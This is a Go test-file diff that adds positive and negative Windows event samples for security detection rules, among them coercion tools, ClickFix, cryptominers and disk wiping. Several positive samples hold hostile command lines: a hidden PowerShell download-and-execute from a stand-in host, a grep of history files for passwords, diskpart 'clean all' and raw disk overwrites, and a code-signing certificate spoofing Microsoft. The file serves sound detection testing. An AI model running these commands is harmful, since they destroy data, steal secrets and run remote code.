@@ -206,6 +206,142 @@ func init() {
 				"ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
 			},
 		},
+		ruleSample{
+			ID:      "29c8a2bb-71f1-41a3-be81-a16d13953807", // Authentication Coercion Tool Run (PetitPotam, PrinterBug, DFSCoerce)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "PetitPotam.exe 10.0.0.66 10.0.0.10",
+				"Image":       "C:\\Users\\bob\\Desktop\\PetitPotam.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "29c8a2bb-71f1-41a3-be81-a16d13953807", // Authentication Coercion Tool Run (PetitPotam, PrinterBug, DFSCoerce)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "python.exe printerbug.py corp/bob@dc01.corp.local 10.0.0.66",
+				"Image":       "C:\\Python311\\python.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "75c2e695-58ef-4238-8797-19c6e2b39f67", // Shell Command File (.scf) or UNC-Icon Shortcut Written
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
+			Fields: map[string]string{
+				"Image":          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"TargetFilename": "\\\\fs01\\public\\@readme.scf",
+			},
+		},
+		ruleSample{
+			ID:      "d5c46a4a-96e4-4b28-9c7e-81bf6e272c98", // Run Dialog Used to Start a Downloading or Hidden Command (ClickFix)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "powershell -w h -c \"iex(irm https://check-human.example/v)\" # I am not a robot\\1",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\explorer.exe",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\a",
+			},
+		},
+		ruleSample{
+			ID:      "7984af3e-f8e6-4315-b87c-8b84af0f493d", // Cryptocurrency Miner Started
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "C:\\ProgramData\\Intel\\svchost.exe -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5kSiGBoZ -p x --donate-level 1 --background",
+				"Image":       "C:\\ProgramData\\Intel\\svchost.exe",
+				"ParentImage": "C:\\Windows\\System32\\svchost.exe",
+			},
+		},
+		ruleSample{
+			ID:      "8aba038e-be79-49c8-9267-4b08c462fc41", // PowerShell Command History File Read From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "cmd.exe /c type C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "73eb47db-a198-416d-bece-f299fb8827b9", // Script Reads PowerShell Command History
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-ChildItem C:\\Users\\*\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt | ForEach-Object { Get-Content $_ | Select-String -Pattern \"password|secret|key\" }",
+			},
+		},
+		ruleSample{
+			ID:      "af115146-c8cc-494a-90e8-a328a51f1767", // Self-Signed Code-Signing Certificate Made and Used to Sign Code
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$c = New-SelfSignedCertificate -Type CodeSigningCert -Subject \"CN=Microsoft Windows\" -CertStoreLocation Cert:\\CurrentUser\\My; Set-AuthenticodeSignature -FilePath C:\\ProgramData\\svc.ps1 -Certificate $c",
+			},
+		},
+		ruleSample{
+			ID:      "a9baf33e-6255-4a4a-ac10-27e934eb2f5d", // Signature Verification Provider (SIP or Trust Provider) Registered
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "C:\\Users\\Public\\sip.dll",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\System32\\reg.exe",
+				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}\\Dll",
+			},
+		},
+		ruleSample{
+			ID:      "199d9ddb-a674-48b5-a4eb-133565ed3660", // Driver Signature Enforcement Relaxed With bcdedit
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "bcdedit.exe /set testsigning on",
+				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "d07cffa8-c8f6-43c5-b542-2733eee1bb08", // Driver Signing Policy Set to Ignore Unsigned Drivers
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "DWORD (0x00000000)",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\System32\\reg.exe",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify",
+			},
+		},
+		ruleSample{
+			ID:      "29c4fa57-70bc-4614-8b74-b510b25fe658", // Pass-Through Authentication Agent Hooked With AADInternals
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Import-Module AADInternals; Install-AADIntPTASpy",
+			},
+		},
+		ruleSample{
+			ID:      "819a8df6-623b-4b2d-86f2-49ab2c755ba1", // Script Builds an Archive Through the .NET Compression Library
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Add-Type -Assembly System.IO.Compression.FileSystem; [System.IO.Compression.ZipFile]::CreateFromDirectory(\"$env:TEMP\\c\", \"$env:TEMP\\c.zip\")",
+			},
+		},
+		ruleSample{
+			ID:      "c854f88e-e276-4411-9ec0-0ac9a712383e", // Disk or Volume Content Overwritten (format /p, diskpart clean all)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "cmd.exe /c \"(echo select disk 1 & echo clean all) | diskpart\"",
+				"Image":       "C:\\Windows\\System32\\cmd.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "93838c4f-c8cd-4746-a94a-bf9613035e69", // Script or Command Opens a Physical Drive for Writing
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "$fs = New-Object IO.FileStream(\"\\\\.\\PhysicalDrive0\", [IO.FileMode]::Open, [IO.FileAccess]::ReadWrite); $fs.Write((New-Object byte[] 512), 0, 512); $fs.Close()",
+			},
+		},
+		ruleSample{
+			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless From a Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "\"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe\" startvm micro --type headless",
+				"Image":       "C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
 	)
 	ruleNegatives = append(ruleNegatives,
 		ruleSample{
@@ -397,6 +533,133 @@ func init() {
 				"CommandLine": "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --restore-last-session",
 				"Image":       "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
 				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		ruleSample{
+			ID:      "29c8a2bb-71f1-41a3-be81-a16d13953807", // Authentication Coercion Tool Run (PetitPotam, PrinterBug, DFSCoerce)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "C:\\Windows\\System32\\spoolsv.exe",
+				"Image":       "C:\\Windows\\System32\\spoolsv.exe",
+				"ParentImage": "C:\\Windows\\System32\\services.exe",
+			},
+		},
+		ruleSample{
+			ID:      "75c2e695-58ef-4238-8797-19c6e2b39f67", // Shell Command File (.scf) or UNC-Icon Shortcut Written
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
+			Fields: map[string]string{
+				"Image":          "C:\\Windows\\explorer.exe",
+				"TargetFilename": "C:\\Users\\bob\\Desktop\\shortcut.lnk",
+			},
+		},
+		ruleSample{
+			ID:      "d5c46a4a-96e4-4b28-9c7e-81bf6e272c98", // Run Dialog Used to Start a Downloading or Hidden Command (ClickFix)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "\\\\fs01\\public\\1",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\explorer.exe",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU\\b",
+			},
+		},
+		ruleSample{
+			ID:      "7984af3e-f8e6-4315-b87c-8b84af0f493d", // Cryptocurrency Miner Started
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+				"Image":       "C:\\Windows\\System32\\svchost.exe",
+				"ParentImage": "C:\\Windows\\System32\\services.exe",
+			},
+		},
+		ruleSample{
+			ID:      "8aba038e-be79-49c8-9267-4b08c462fc41", // PowerShell Command History File Read From the Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "powershell.exe -c Get-History | Select-Object -Last 5",
+				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+				"ParentImage": "C:\\Windows\\explorer.exe",
+			},
+		},
+		ruleSample{
+			ID:      "73eb47db-a198-416d-bece-f299fb8827b9", // Script Reads PowerShell Command History
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Set-PSReadLineOption -HistorySaveStyle SaveIncrementally -MaximumHistoryCount 8192",
+			},
+		},
+		ruleSample{
+			ID:      "af115146-c8cc-494a-90e8-a328a51f1767", // Self-Signed Code-Signing Certificate Made and Used to Sign Code
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-AuthenticodeSignature -FilePath C:\\Windows\\System32\\notepad.exe | Select-Object Status, SignerCertificate",
+			},
+		},
+		ruleSample{
+			ID:      "a9baf33e-6255-4a4a-ac10-27e934eb2f5d", // Signature Verification Provider (SIP or Trust Provider) Registered
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "WINTRUST.DLL",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack\\TiWorker.exe",
+				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}\\Dll",
+			},
+		},
+		ruleSample{
+			ID:      "199d9ddb-a674-48b5-a4eb-133565ed3660", // Driver Signature Enforcement Relaxed With bcdedit
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "bcdedit.exe /set {current} bootmenupolicy Legacy",
+				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "d07cffa8-c8f6-43c5-b542-2733eee1bb08", // Driver Signing Policy Set to Ignore Unsigned Drivers
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
+			Fields: map[string]string{
+				"Details":      "DWORD (0x00000001)",
+				"EventType":    "SetValue",
+				"Image":        "C:\\Windows\\System32\\svchost.exe",
+				"TargetObject": "HKU\\S-1-5-21-1-2-3-1001\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify",
+			},
+		},
+		ruleSample{
+			ID:      "29c4fa57-70bc-4614-8b74-b510b25fe658", // Pass-Through Authentication Agent Hooked With AADInternals
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-Service AzureADConnectAuthenticationAgent | Select-Object Status, StartType",
+			},
+		},
+		ruleSample{
+			ID:      "819a8df6-623b-4b2d-86f2-49ab2c755ba1", // Script Builds an Archive Through the .NET Compression Library
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Add-Type -Assembly System.IO.Compression.FileSystem; [System.IO.Compression.ZipFile]::ExtractToDirectory(\"C:\\Installers\\tool.zip\", \"C:\\Tools\\tool\")",
+			},
+		},
+		ruleSample{
+			ID:      "c854f88e-e276-4411-9ec0-0ac9a712383e", // Disk or Volume Content Overwritten (format /p, diskpart clean all)
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "diskpart.exe /s C:\\Windows\\Temp\\list_disks.txt",
+				"Image":       "C:\\Windows\\System32\\diskpart.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
+			},
+		},
+		ruleSample{
+			ID:      "93838c4f-c8cd-4746-a94a-bf9613035e69", // Script or Command Opens a Physical Drive for Writing
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": "Get-CimInstance Win32_DiskDrive | Select-Object DeviceID, Model, Size  # \\\\.\\PhysicalDrive0",
+			},
+		},
+		ruleSample{
+			ID:      "ba101332-a757-4853-933e-208cc823f9dc", // Virtual Machine Started Headless From a Command Line
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"CommandLine": "\"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe\" list runningvms",
+				"Image":       "C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe",
+				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
 			},
 		},
 	)
